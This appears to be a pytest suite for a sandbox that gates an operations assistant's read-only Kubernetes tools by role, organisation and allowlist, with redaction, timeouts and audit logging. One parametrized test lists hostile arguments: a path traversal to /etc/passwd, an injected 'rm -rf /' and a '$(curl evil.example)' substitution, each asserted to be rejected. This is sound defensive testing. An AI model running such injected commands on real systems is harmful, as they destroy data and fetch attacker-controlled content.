"""The sandbox, adversarially: every call is checked against the caller before it runs, arguments are validated,
tools run in a worker process with a timeout and an output cap, and every call (denied ones too) is audited."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import time
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import pytest

from assistant.audit import AuditLog
from assistant.auth import Principal
from assistant.database import Database
from assistant.tools.registry import tools
from assistant.tools.sandbox import Sandbox
from assistant.tools.workers import worker_environment
from core.settings import Settings
from ingest.cluster.config import ClusterConfig, Clusters
from tests.kube.apiserver import KubeApiServer
from tests.kube.fixtures import CLUSTERS

CRASHED = "checkout-7c9d8f6b5-x2k4p"
OPERATOR = Principal("op@northwind", "northwind", ("operator",))
DEVELOPER = Principal("dev@northwind", "northwind", ("developer",), ("shop",))
VIEWER = Principal("viewer@northwind", "northwind", ("viewer",))
ORBITAL = Principal("op@orbital", "orbital", ("operator",))


@pytest.fixture
def sandbox(tmp_path: Path, kubeconfig: Path) -> Iterator[Sandbox]:
    """northwind's cluster over the live API (the fixture server), orbital's from its dump."""
    clusters = Clusters(
        [
            ClusterConfig(
                org="northwind",
                name="northwind-prod",
                kubeconfig=kubeconfig,
                context="northwind-prod",
                namespaces=("shop", "payments", "platform"),
            ),
            ClusterConfig(org="orbital", name="orbital-prod", dump=CLUSTERS / "orbital-prod"),
        ]
    )
    settings = Settings(data_dir=tmp_path / "data", tool_timeout_s=3, tool_output_bytes=8192)
    db = Database(f"sqlite:///{tmp_path / 'audit.db'}")
    box = Sandbox(settings, clusters, AuditLog(db))
    yield box
    box.close()
    db.close()


def audited(box: Sandbox) -> list[dict[str, object]]:
    assert box.audit is not None
    return [r for r in box.audit.records() if r["action"] == "tool"]


def test_a_developer_reads_the_logs_of_a_pod_in_their_namespace(sandbox: Sandbox, kube: KubeApiServer) -> None:
    result = sandbox.call(DEVELOPER, "kubernetes_logs", {"namespace": "shop", "pod": CRASHED, "previous": True})
    assert result.status == "ok", result.error
    assert "PAYMENTS_GATEWAY_URL is not a valid URL" in result.data["log"]
    assert result.invocation == f"kubectl --context northwind-prod -n shop logs {CRASHED} --previous --tail=100"
    assert {r.method for r in kube.requests} == {"GET"}
    assert audited(sandbox)[-1]["outcome"] == "ok"


@pytest.mark.parametrize(
    ("who", "tool", "arguments", "reason"),
    [
        (VIEWER, "kubernetes_list", {"kind": "pod", "namespace": "shop"}, "may not run kubernetes tools"),
        (DEVELOPER, "kubernetes_list", {"kind": "pod", "namespace": "payments"}, "not one your key may read"),
        (DEVELOPER, "kubernetes_list", {"kind": "node"}, "only operators"),
        (OPERATOR, "kubernetes_list", {"kind": "pod", "namespace": "kube-system"}, "not open to the assistant"),
        (OPERATOR, "kubernetes_list", {"kind": "pod", "cluster": "orbital-prod"}, "not one of your organization"),
        (ORBITAL, "kubernetes_logs", {"namespace": "shop", "pod": CRASHED, "cluster": "northwind-prod"}, "not one of"),
    ],
)
def test_calls_beyond_the_callers_permissions_are_denied_and_audited(
    sandbox: Sandbox, kube: KubeApiServer, who: Principal, tool: str, arguments: dict[str, object], reason: str
) -> None:
    result = sandbox.call(who, tool, arguments)
    assert result.status == "denied" and reason in str(result.error)
    assert kube.requests == []  # refused before anything reached the cluster
    record = audited(sandbox)[-1]
    assert record["outcome"] == "denied" and record["user_id"] == who.user and record["org_id"] == who.org


def test_another_orgs_cluster_is_refused_like_one_that_does_not_exist(sandbox: Sandbox) -> None:
    theirs = sandbox.call(OPERATOR, "kubernetes_list", {"kind": "pod", "cluster": "orbital-prod"})
    nowhere = sandbox.call(OPERATOR, "kubernetes_list", {"kind": "pod", "cluster": "no-such-cluster"})
    assert theirs.error == nowhere.error.replace("no-such-cluster", "orbital-prod")  # type: ignore[union-attr]


@pytest.mark.parametrize(
    "arguments",
    [
        {"namespace": "shop", "pod": "../../../etc/passwd"},
        {"namespace": "shop", "pod": f"{CRASHED}; rm -rf /"},
        {"namespace": "shop", "pod": "$(curl evil.example)"},
        {"namespace": "shop/../kube-system", "pod": CRASHED},
        {"namespace": "shop", "pod": CRASHED, "container": "checkout --all-containers"},
        {"namespace": "shop", "pod": "x" * 300},
        {"namespace": "shop", "pod": CRASHED, "tail": 10**9},
        {"namespace": "shop", "pod": CRASHED, "follow": True},
    ],
)
def test_bad_arguments_never_reach_the_cluster(
    sandbox: Sandbox, kube: KubeApiServer, arguments: dict[str, object]
) -> None:
    result = sandbox.call(OPERATOR, "kubernetes_logs", arguments)
    assert result.status == "error" and str(result.error).startswith("invalid arguments")
    assert kube.requests == []
    assert audited(sandbox)[-1]["outcome"] == "error"


@pytest.mark.parametrize("kind", ["secret", "secrets", "Secret", "serviceaccount", "clusterrolebindings", "pods/exec"])
def test_kinds_outside_the_allowlist_are_refused(sandbox: Sandbox, kube: KubeApiServer, kind: str) -> None:
    for tool, arguments in (
        ("kubernetes_list", {"kind": kind, "namespace": "shop"}),
        ("kubernetes_describe", {"kind": kind, "namespace": "shop", "name": "db-credentials"}),
    ):
        result = sandbox.call(OPERATOR, tool, arguments)
        assert result.status == "error" and "not readable here" in str(result.error)
    assert kube.requests == []


def test_a_label_selector_cannot_smuggle_set_syntax_or_fields(sandbox: Sandbox) -> None:
    for selector in ("app in (a,b)", "app=x&watch=true", "app=x,metadata.name!=y", "a=b;c"):
        result = sandbox.call(OPERATOR, "kubernetes_list", {"kind": "pod", "label_selector": selector})
        assert result.status == "error", selector


def test_credentials_in_objects_are_redacted_from_tool_output(sandbox: Sandbox) -> None:
    result = sandbox.call(OPERATOR, "kubernetes_describe", {"kind": "deployment", "namespace": "shop", "name": "cart"})
    assert result.status == "ok"
    assert "DATABASE_PASSWORD=[REDACTED]" in result.data["text"]
    raw = json.loads((CLUSTERS / "northwind-prod" / "shop" / "deployments.json").read_text())
    env = [e for d in raw["items"] for c in d["spec"]["template"]["spec"]["containers"] for e in c.get("env", [])]
    password = next(e["value"] for e in env if e["name"] == "DATABASE_PASSWORD")
    assert password not in json.dumps(result.data)


def test_a_huge_log_is_cut_to_the_output_cap(sandbox: Sandbox, kube: KubeApiServer) -> None:
    kube.huge_log_bytes = 5_000_000
    result = sandbox.call(OPERATOR, "kubernetes_logs", {"namespace": "shop", "pod": CRASHED, "tail": 5000})
    assert result.status == "ok" and result.truncated
    assert len(json.dumps(result.data).encode()) <= sandbox.settings.tool_output_bytes
    assert "characters cut" in result.data["log"]


def test_a_hanging_api_server_times_out_and_the_next_call_works(sandbox: Sandbox, kube: KubeApiServer) -> None:
    kube.delay_s = 30
    hung = sandbox.call(OPERATOR, "kubernetes_list", {"kind": "pod", "namespace": "shop"})
    assert hung.status in ("timeout", "error") and hung.duration_ms < 6000
    kube.delay_s = 0
    again = sandbox.call(OPERATOR, "kubernetes_list", {"kind": "pod", "namespace": "shop"})
    assert again.status == "ok" and again.data["total"] > 5
    assert [r["outcome"] for r in audited(sandbox)][-2:] == [hung.status, "ok"]


def test_an_api_server_error_is_a_readable_result(sandbox: Sandbox, kube: KubeApiServer) -> None:
    kube.fail_with = 500
    result = sandbox.call(OPERATOR, "kubernetes_events", {"namespace": "shop"})
    assert result.status == "error" and "500" in str(result.error)
    assert result.invocation.startswith("kubectl --context northwind-prod -n shop get events")


def test_tools_are_disabled_with_a_reason_where_no_cluster_is_configured(sandbox: Sandbox) -> None:
    lonely = Principal("op@globex", "globex", ("operator",))
    result = sandbox.call(lonely, "cluster_analyze", {})
    assert result.status == "disabled" and "no cluster configured for organization globex" in str(result.error)
    listed = {t["name"]: t for t in sandbox.catalog(lonely)}
    assert listed["kubernetes_logs"]["status"].startswith("disabled: no cluster configured")
    assert {t["status"] for t in sandbox.catalog(VIEWER) if t["family"] in ("kubernetes", "troubleshooting")} == {
        "denied: your role may not run kubernetes tools",
        "denied: your role may not run troubleshooting tools",
    }
    metrics = {t["status"] for t in sandbox.catalog(OPERATOR) if t["family"] == "metrics"}
    assert metrics == {
        "disabled: no Prometheus configured for organization northwind (prometheus_url in AIOPS_CLUSTERS_FILE)"
    }


def test_every_tool_is_read_only_and_declares_a_schema() -> None:
    for tool in tools().values():
        assert tool.read_only and tool.schema()["type"] == "object" and tool.runner.startswith("assistant.tools.")


def test_the_worker_is_another_process_without_the_services_secrets(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("AIOPS_OPENAI_API_KEY", "sk-test-should-not-leak")
    monkeypatch.setenv("OPENAI_API_KEY", "sk-test-should-not-leak")
    monkeypatch.setenv("DATABASE_URL", "postgresql://app:hunter2@db/app")
    env = worker_environment()
    assert not any(k.startswith(("AIOPS_", "OPENAI", "DATABASE")) for k in env) and "PATH" in env
    probe = "import os, resource; print(os.getpid(), resource.getrlimit(resource.RLIMIT_FSIZE)[0])"
    code = f"from assistant.tools.worker import limit_resources; limit_resources(); {probe}"
    out = subprocess.run([sys.executable, "-c", code], env=env, capture_output=True, text=True, check=True).stdout
    pid, fsize = map(int, out.split())
    assert pid != os.getpid() and 0 < fsize <= 4 * 1024 * 1024


def test_an_operator_analyzes_every_namespace_and_the_nodes(sandbox: Sandbox) -> None:
    result = sandbox.call(OPERATOR, "cluster_analyze", {})
    assert result.status == "ok"
    found = {(f["check"], f["name"]) for f in result.data["findings"]}
    assert ("NodeNotReady", "ip-10-20-3-41") in found and ("CrashLoopBackOff", CRASHED) in found
    mine = sandbox.call(DEVELOPER, "cluster_analyze", {})
    assert mine.status == "ok" and {f["namespace"] for f in mine.data["findings"]} == {"shop"}


def planted_dump(tmp_path: Path) -> Path:
    """A copy of the northwind snapshot with credentials in a log line, an event message and split container args."""
    dump = tmp_path / "planted"
    shutil.copytree(CLUSTERS / "northwind-prod", dump)
    log = dump / "shop" / CRASHED / "logs-checkout-previous.txt"
    log.write_text(log.read_text() + "error: login failed for app, password='hunter2-log'\n")
    events = json.loads((dump / "shop" / "events.json").read_text())
    events["items"][0]["message"] += " (retrying with token=tok-event-123456)"
    events["items"][0]["type"] = "Warning"
    (dump / "shop" / "events.json").write_text(json.dumps(events))
    deployments = json.loads((dump / "shop" / "deployments.json").read_text())
    container = deployments["items"][0]["spec"]["template"]["spec"]["containers"][0]
    container["args"] = ["--db-password", "hunter2-args", "--api-token", "tok-args-123456"]
    (dump / "shop" / "deployments.json").write_text(json.dumps(deployments))
    return dump


def test_credentials_planted_in_logs_events_and_args_never_come_out(tmp_path: Path) -> None:
    from ingest.cluster.ingestion import describe_cluster
    from ingest.cluster.readers import DumpCluster
    from ingest.cluster.state import ClusterState

    dump = planted_dump(tmp_path)
    config = ClusterConfig(org="northwind", name="northwind-prod", dump=dump)
    box = Sandbox(Settings(data_dir=tmp_path / "data"), Clusters([config]))
    planted = ("hunter2-log", "tok-event-123456", "hunter2-args", "tok-args-123456")
    try:
        deployment = json.loads((dump / "shop" / "deployments.json").read_text())["items"][0]["metadata"]["name"]
        outputs = [
            box.call(OPERATOR, "cluster_analyze", {}),
            box.call(OPERATOR, "kubernetes_events", {"namespace": "shop"}),
            box.call(OPERATOR, "kubernetes_logs", {"namespace": "shop", "pod": CRASHED, "previous": True}),
            box.call(OPERATOR, "kubernetes_describe", {"kind": "deployment", "namespace": "shop", "name": deployment}),
        ]
    finally:
        box.close()
    assert all(o.status == "ok" for o in outputs), [o.error for o in outputs]
    text = json.dumps([o.data for o in outputs])
    assert "[REDACTED]" in text and not any(secret in text for secret in planted)
    from ingest.cluster.analyzers import analyze

    state = ClusterState(DumpCluster(dump, "northwind-prod"))
    indexed = " ".join(d.text for d in describe_cluster(state, analyze(state)))
    assert "[REDACTED]" in indexed and not any(secret in indexed for secret in planted)


def test_one_organizations_hung_cluster_does_not_stall_anothers_tools(
    tmp_path: Path, kubeconfig: Path, kube: KubeApiServer
) -> None:
    clusters = Clusters(
        [
            ClusterConfig(org="northwind", name="northwind-prod", kubeconfig=kubeconfig),
            ClusterConfig(org="orbital", name="orbital-prod", dump=CLUSTERS / "orbital-prod"),
        ]
    )
    box = Sandbox(Settings(data_dir=tmp_path / "data", tool_timeout_s=4, tool_workers=2), clusters)
    kube.delay_s = 30
    try:
        with ThreadPoolExecutor(4) as pool:
            hung = [pool.submit(box.call, OPERATOR, "kubernetes_list", {"kind": "pod"}) for _ in range(4)]
            time.sleep(0.5)  # the four northwind calls hold (or wait for) northwind's share of the workers
            started = time.monotonic()
            theirs = box.call(ORBITAL, "kubernetes_list", {"kind": "pod", "namespace": "fleet"})
            elapsed = time.monotonic() - started
            assert [f.result().status for f in hung] == ["timeout"] * 4
    finally:
        kube.delay_s = 0
        box.close()
    assert theirs.status == "ok" and elapsed < 3, (theirs.error, elapsed)


def test_a_cluster_without_a_context_uses_the_kubeconfigs_current_one(tmp_path: Path, kubeconfig: Path) -> None:
    config = ClusterConfig(org="northwind", name="prod", kubeconfig=kubeconfig)
    box = Sandbox(Settings(data_dir=tmp_path / "data"), Clusters([config]))
    try:
        result = box.call(OPERATOR, "kubernetes_describe", {"kind": "pod", "namespace": "shop", "name": CRASHED})
    finally:
        box.close()
    assert result.status == "ok", result.error
    assert result.data["source_id"] == f"cluster/prod/shop/pod/{CRASHED}" and result.data["findings"]


def test_describe_needs_the_namespace_of_a_namespaced_kind(sandbox: Sandbox) -> None:
    result = sandbox.call(OPERATOR, "kubernetes_describe", {"kind": "pod", "name": CRASHED})
    assert result.status == "error" and "namespace is required for pods" in str(result.error)
    events = sandbox.call(OPERATOR, "kubernetes_describe", {"kind": "event", "namespace": "shop", "name": "x"})
    assert events.status == "error" and "kubernetes_events" in str(events.error)


def test_output_with_several_large_fields_still_fits_the_cap() -> None:
    from assistant.tools.worker import cap

    data = {"a": "x" * 100_000, "b": "y" * 100_000, "c": ["z" * 1000] * 200, "d": {"e": "w" * 50_000}}
    capped, truncated = cap(data, 65_536)
    assert truncated and len(json.dumps(capped).encode()) <= 65_536
    assert cap({"small": 1}, 100) == ({"small": 1}, False)
